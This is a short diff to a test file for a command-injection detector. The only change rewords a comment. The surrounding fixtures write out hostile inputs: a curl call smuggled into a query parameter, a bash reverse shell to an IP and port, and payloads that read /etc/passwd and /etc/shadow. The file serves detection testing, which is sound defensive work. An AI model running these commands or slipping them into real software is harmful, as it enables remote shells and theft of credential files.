@@ -9,7 +9,7 @@ describeDetectorContract(commandInjection, {
     ['/ping?ip=10.0.0.1$(curl http://x.example.net)', ['?ip=10.0.0.1$(curl http://x.example.net)']],
     ['bash -i >& /dev/tcp/198.51.100.7/4444 0>&1', ['/dev/tcp/198.51.100.7/4']],
     ['ip=1.2.3.4%0acat%20/etc/passwd', ['%0acat%20/etc/passwd']],
-    // A row without a table.
+    // A row that is not part of a table.
     ['|1|cat /etc/shadow|whoami|', ['|cat /etc/shadow|whoami|']],
   ],
   ignores: [
